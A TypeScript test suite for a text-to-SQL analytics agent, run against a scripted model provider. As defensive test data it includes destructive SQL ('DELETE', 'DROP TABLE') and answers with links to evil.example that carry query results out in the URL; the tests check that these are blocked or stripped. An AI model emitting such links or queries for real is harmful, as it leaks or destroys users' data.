import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { sample } from '../support/length.ts'
import type { App } from '../../src/app.ts'
import { given } from '../../src/core/given.ts'
import type { LiveItem } from '../../src/engine/readers/live.ts'
import type { RequestInput } from '../../src/core/request.ts'
import { createDemoDatabase } from '../../src/demo/database.ts'
import { openApp } from '../../src/setup/setup.ts'
import { startModelServer, type ModelServer, type Reply, type Rule } from '../support/model-server.ts'

/** The whole product against a scripted provider, through the real one's SDK. Nothing of ours is replaced. */

const QUESTION = 'Show the count of customers'
const GOOD_SQL = 'SELECT count(*) AS customers FROM customers'

let folder: string
let server: ModelServer
let app: App

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tutti-answering-'))
  await createDemoDatabase(join(folder, 'demo.sqlite'))
  server = await startModelServer()
  const timeouts = { firstChunkMs: 1_000, idleMs: 1_000, totalMs: 2_000 }
  await writeFile(join(folder, 'tutti.config.json'), JSON.stringify({ models: { timeouts } }))
})

afterAll(async () => {
  await server.close()
  await rm(folder, { recursive: true, force: true })
})

afterEach(async () => app.close())

const ASKED = {
  planner: 'You choose which specialist agents',
  generate: 'You write SQL',
  review: 'You review a SQL query',
  compose: 'senior business intelligence agent',
}

const REPLIES: Record<keyof typeof ASKED, Reply> = {
  planner: { json: { agents: ['sql'], rationale: 'Customers are in the database.', confidence: 0.9 } },
  generate: { json: { database: 'demo', sql: GOOD_SQL, explanation: 'Counts customers.' } },
  review: { json: { correct: true, problems: '', sql: '' } },
  compose: { text: 'There are 92 customers.', chunks: ['There are ', '92 ', 'customers.'] },
}

/** The usual answers, with what a test puts in front of them. */
function rules(...first: Rule[]): Rule[] {
  const usual = Object.entries(ASKED).map(([name, when]) => ({ when, reply: REPLIES[name as keyof typeof ASKED] }))
  return [...first, ...usual]
}

async function ask(script: Rule[], request: Partial<RequestInput> = {}) {
  server.script(script)
  app = await openApp({
    env: { TUTTI_MODEL_URL: server.url, TUTTI_MODEL: 'compatible:scripted' },
    cwd: folder,
    inMemory: true,
    databases: [{ url: `sqlite:${join(folder, 'demo.sqlite')}` }],
    onTrouble: (error) => expect.fail(error.message),
  })
  const runId = await app.start({ question: QUESTION, trace: true, ...request })
  const items: LiveItem[] = []
  for await (const item of app.engine.stream(runId)) items.push(item)
  return { response: await app.response(runId), items, runId }
}

const requestsFor = (name: keyof typeof ASKED) =>
  server.requests.filter((request) => request.text.includes(ASKED[name]))

describe('with a model', () => {
  it('writes SQL, executes, composes and streams, with two calls, where one agent can work', async () => {
    const { response, items } = await ask(rules())
    expect(response.answer).toBe('There are 92 customers.')
    expect(response.data).toEqual({ columns: ['customers'], rows: [{ customers: 92 }], rowCount: 1 })
    expect(response.planner).toMatchObject({ chosenAgents: ['sql'], confidence: 0.4 })
    expect(response.metadata).toMatchObject({ answeredBy: 'model', models: ['compatible:scripted'], notes: [] })
    expect(response.metadata.usage.calls).toBe(2)
    expect(response.agentResults[0]).toMatchObject({
      agent: 'sql',
      status: 'succeeded',
      sources: [{ kind: 'database', name: 'demo', detail: GOOD_SQL }],
    })
    const texts = items.flatMap((item) =>
      item.type === 'live.text' || item.type === 'answer.delta' ? [item.text] : [],
    )
    expect(texts).not.toEqual([])
    expect(texts.join('')).toBe(response.answer)
    const answered = response.trace!.filter((line) => line.message.startsWith('Model answered'))
    expect(answered.map((line) => line.agent)).toEqual(['sql', 'composer'])
    for (const line of answered) expect(line.data['usage']).toMatchObject({ inputTokens: expect.any(Number) })
  })

  it('feeds a failing query back in the wording of SPEC P5 and takes the corrected one', async () => {
    const bad = 'SELECT count(customer_idx) AS customers FROM customers'
    const { response } = await ask(
      rules({ when: ASKED.generate, times: 1, reply: { json: { database: 'demo', sql: bad, explanation: '' } } }),
    )
    expect(response.answer).toBe('There are 92 customers.')
    const [, second] = requestsFor('generate')
    expect(second!.text).toContain('The previous SQL query failed to execute.')
    expect(second!.text).toContain(`Failing query:\n> ${bad}`)
    expect(second!.text).toContain('using only the authorised tables.')
    const { attempts } = response.agentResults[0]!.data as { attempts: { success: boolean; error?: string }[] }
    expect(attempts.map((attempt) => attempt.success)).toEqual([false, true])
    expect(attempts[0]!.error).toContain('customer_idx')
  })

  it('gives up after four attempts and keeps their history', async () => {
    const bad = { database: 'demo', sql: 'SELECT nothing_there FROM customers', explanation: '' }
    const generated = rules({ when: ASKED.generate, reply: { json: bad } })
    // What the rules read, they would answer.
    const { response } = await ask(generated, { question: 'How many profitable customers are there?' })
    const [result] = response.agentResults
    expect(result).toMatchObject({ status: 'failed' })
    expect((result!.data as { attempts: unknown[] }).attempts).toHaveLength(4)
    expect(requestsFor('generate')).toHaveLength(4)
  })

  it('says why a query that would write is blocked, and does not try again', async () => {
    const evil = { database: 'demo', sql: 'DELETE FROM customers', explanation: '' }
    const { response } = await ask(rules({ when: ASKED.generate, reply: { json: evil } }))
    expect(response.agentResults[0]!.error).toMatchObject({ type: 'QueryBlocked' })
    expect(requestsFor('generate')).toHaveLength(1)
  })

  it('takes a correction of the review, unless it is not allowed', async () => {
    const risky = `${GOOD_SQL} WHERE customer_id BETWEEN 1 AND 1000`
    const generated = { when: ASKED.generate, reply: { json: { database: 'demo', sql: risky, explanation: '' } } }
    const better = 'SELECT count(DISTINCT customer_id) AS customers FROM customers'
    const corrected = await ask(
      rules(generated, { when: ASKED.review, reply: { json: { correct: false, problems: 'x', sql: better } } }),
    )
    expect(corrected.response.agentResults[0]!.sources[0]!.detail).toBe(better)
    await app.close()
    const evil = { correct: false, problems: 'x', sql: 'DROP TABLE customers' }
    const refused = await ask(rules(generated, { when: ASKED.review, reply: { json: evil } }))
    expect(refused.response.agentResults[0]!.sources[0]!.detail).toBe(risky)
    expect(refused.response.trace!.map((line) => line.message)).toContain(
      'Review made a query that is not allowed; not taken',
    )
  })

  it('has a query reviewed whose result is empty, after it ran, and takes what is found then', async () => {
    const empty = 'SELECT company_name FROM customers WHERE customer_id < 0'
    const better = 'SELECT company_name FROM customers WHERE customer_id > 0'
    const generated = { when: ASKED.generate, reply: { json: { database: 'demo', sql: empty, explanation: '' } } }
    const review = (sql: string) => ({ when: ASKED.review, reply: { json: { correct: false, problems: 'x', sql } } })
    const mended = await ask(rules(generated, review(better)))
    expect(mended.response.data!.rowCount).toBeGreaterThan(0)
    expect(mended.response.agentResults[0]!.sources[0]!.detail).toBe(better)
    expect(requestsFor('review')[0]!.text).toContain('Doubt: It found no rows.')
    await app.close()
    // A correction that fails changes nothing.
    const spoilt = await ask(rules(generated, review('SELECT nothing FROM customers')))
    expect(spoilt.response.agentResults[0]).toMatchObject({ status: 'succeeded', sources: [{ detail: empty }] })
  })

  it('lets the planner drop and reorder, never add', async () => {
    const { response } = await ask(
      rules({ when: ASKED.planner, reply: { json: { agents: ['ghost', ' SQL '], rationale: 'r', confidence: 1 } } }),
      { preferAgents: ['computation'] },
    )
    expect(response.planner!.chosenAgents).toEqual(['sql'])
  })

  it.each([[[]], [['oracle', 'wizard']]])(
    'asks whom the words speak for when the planner chooses %j',
    async (agents) => {
      const { response } = await ask(
        rules({ when: ASKED.planner, reply: { json: { agents, rationale: 'small talk', confidence: 1 } } }),
      )
      expect(response.planner!.chosenAgents).toEqual(['sql'])
    },
  )

  it('lets no model compose when the planner chooses nobody for a greeting', async () => {
    const { response } = await ask(
      rules({ when: ASKED.planner, reply: { json: { agents: [], rationale: 'small talk', confidence: 1 } } }),
      { question: 'Good morning' },
    )
    expect(response.agentResults).toEqual([])
    expect(response.answer).toBe('No agent was chosen for this question, so there is nothing to answer from.')
    expect(requestsFor('compose')).toHaveLength(0)
  })

  it('uses the system prompt and the locale of the request', async () => {
    await ask(rules(), { systemPrompt: 'Speak like a pirate.', locale: 'en-IN' })
    expect(requestsFor('compose')[0]!.text).toContain('Speak like a pirate.')
    expect(requestsFor('compose')[0]!.text).toContain('Rs.1,75,206.00')
  })

  it('answers a question about the schema without asking a model for SQL', async () => {
    const { response } = await ask(rules(), { question: 'List all tables in the database' })
    expect(response.data!.rowCount).toBe(15)
    expect(requestsFor('generate')).toHaveLength(0)
  })
})

describe('faults of the provider', () => {
  const FAULTS: [string, Reply][] = [
    ['429 with Retry-After', { status: 429, retryAfterMs: 20 }],
    ['500', { status: 500 }],
    ['malformed body', { fault: 'malformed-body' }],
    ['truncated', { fault: 'truncated' }],
    ['no finish reason', { fault: 'no-finish' }],
    ['stall', { fault: 'stall' }],
    ['a web page with 200', { fault: 'html' }],
    ['malformed JSON', { fault: 'malformed-json' }],
    ['empty', { fault: 'empty' }],
    ['cut by length', { fault: 'length' }],
  ]

  /** Where plain text is asked for, broken JSON is only odd text. */
  const isHarmless = (asked: keyof typeof ASKED, { fault }: Reply): boolean =>
    asked === 'compose' && fault === 'malformed-json'

  it.each(sample(FAULTS, 4))('%s once: a retry answers', async (_name, reply) => {
    const faults = (['generate', 'compose'] as const).map((name) => {
      return {
        when: ASKED[name],
        times: 1,
        reply: isHarmless(name, reply) ? REPLIES[name] : { ...REPLIES[name], ...reply },
      }
    })
    // The planner is asked first, and answers: of a provider that never did, a hang is enough.
    const { response } = await ask(rules(...faults), { preferAgents: ['computation'] })
    expect(response.answer).toBe('There are 92 customers.')
    expect(response.metadata).toMatchObject({ status: 'finished', notes: [] })
  })

  it.each(sample(FAULTS.slice(1), 4))('%s always: the fallback answers and says so', async (_name, reply) => {
    const harmless = isHarmless('compose', reply) ? [{ when: ASKED.compose, reply: { status: 500 } }] : []
    const script = [...harmless, { reply: { text: 'x', ...reply } }]
    const { response } = await ask(script, { question: 'How many customers are there?' })
    expect(response.answer).toContain('92')
    expect(response.metadata).toMatchObject({ status: 'finished', answeredBy: 'fallback' })
    expect(response.metadata.notes[0]).toMatch(/^Answered without a model: /)
    expect(response.planner!.confidence).toBe(0.4)
  })
})

describe('a provider that hangs', () => {
  it.each(['pipeline', 'graph'] as const)(
    'is waited for once in a run by %s, and the run answers by rules',
    async (strategy) => {
      const question = 'How many customers are there?'
      const { response } = await ask([{ reply: { fault: 'stall' } }], { question, strategy })
      expect(response.answer).toContain('92')
      expect(response.metadata).toMatchObject({ status: 'finished', answeredBy: 'fallback' })
      // What runs beside the first request may have begun before it was known.
      expect(server.requests.length).toBeLessThanOrEqual(2)
    },
  )

  it('while it composes leaves what the agents found', async () => {
    const { response } = await ask(rules({ when: ASKED.compose, reply: { fault: 'stall' } }))
    expect(response.answer).toContain('92')
    expect(response.metadata).toMatchObject({ status: 'finished', answeredBy: 'fallback' })
    expect(response.agentResults[0]).toMatchObject({ status: 'succeeded', models: ['compatible:scripted'] })
  })

  it('in the middle of the answer leaves the whole answer of the agents', async () => {
    const reply = { ...REPLIES.compose, fault: 'stall-mid-stream' } as const
    const { response, items } = await ask(rules({ when: ASKED.compose, reply }))
    expect(response.metadata).toMatchObject({ status: 'finished', answeredBy: 'fallback' })
    const texts = items.filter((item) => item.type === 'live.text')
    const last = Math.max(...texts.map(({ part }) => part))
    expect(texts.flatMap(({ part, text }) => (part === last ? [text] : [])).join('')).toBe(response.answer)
  })
})

describe('an answer with links that stand in no source', () => {
  const LEAK = 'https://evil.example/p.png?d=92-customers'
  const text = `There are 92 customers.\n\n![chart](${LEAK}) See [more](//evil.example/x), <${LEAK}> or https://docs.example/a?b=1.`

  it('keeps its words, in the answer, on the way there, and in what agents say', async () => {
    const script = rules({ when: ASKED.compose, reply: { text, chunks: text.match(/.{1,7}/gs)! } })
    const question = `${QUESTION}, as in https://docs.example/a?b=1`
    const { response, items } = await ask(script, { question })
    expect(response.answer).toBe(
      'There are 92 customers.\n\nchart See more, (link removed) or https://docs.example/a?b=1.',
    )
    const shown = items.flatMap((item) => (item.type === 'live.text' ? [item.text] : []))
    expect(shown.join('')).toBe(response.answer)
    // The log holds what the model wrote as the record of that call, and nowhere else.
    const told = items.filter((item) => item.type !== 'call.finished')
    expect(JSON.stringify(told)).not.toContain('92-customers')
    expect(response.trace!.map((line) => line.message)).toContain(
      'Links that stand in no source of this run were taken out',
    )
  })

  it.each([
    ["SELECT 'https://evil.example/?d=' || count(*) AS customers FROM customers", 'https://evil.example/?d=92'],
    ["SELECT 'www.evil.example?d=' || count(*) AS customers FROM customers", 'www.evil.example?d=92'],
    ["SELECT trim('evil.example?d=' || count(*)) AS customers FROM customers", 'evil.example?d=92'],
  ])('cannot get them from a query that puts them together: %s', async (sql, leak) => {
    const { response } = await ask(
      rules(
        { when: ASKED.generate, reply: { json: { database: 'demo', sql, explanation: '' } } },
        { when: ASKED.compose, reply: { text: `There are 92. ![c](https://${leak.replace('https://', '')})` } },
      ),
    )
    expect(response.data!.rows).toEqual([{ customers: leak }])
    expect([response.answer, response.agentResults[0]!.answer].join()).not.toContain('evil.example')
  })
})

describe('limits', () => {
  it('composes what there is when the calls are used up, and says so', async () => {
    const { response } = await ask(rules(), { budget: { maxCalls: 1 } })
    expect(response.answer).toContain('92')
    expect(response.answer).toContain('limit of 1 model call')
    expect(response.metadata.usage.calls).toBe(1)
  })
})

describe('a fork from the SQL step', () => {
  it('re-uses all earlier calls with another model, and plans anew with another question', async () => {
    const first = await ask(rules())
    server.script(rules(), ['scripted', 'other'])
    const forked = async (question?: string) => {
      const forkId = await app.engine.fork(first.runId, 'sql', {
        ...given({ question }),
        models: { default: 'compatible:other' },
      })
      await app.engine.outcome(forkId)
      return app.response(forkId)
    }
    const fork = await forked()
    expect(requestsFor('planner')).toHaveLength(0)
    expect(requestsFor('generate')[0]).toMatchObject({ model: 'other' })
    expect(fork.planner).toEqual(first.response.planner)
    expect(fork.metadata).toMatchObject({ status: 'finished', usage: { calls: 2 } })

    const other = await forked('Show the count of suppliers')
    expect(requestsFor('generate').at(-1)!.text).toContain('Show the count of suppliers')
    expect(other.metadata.status).toBe('finished')
  })
})
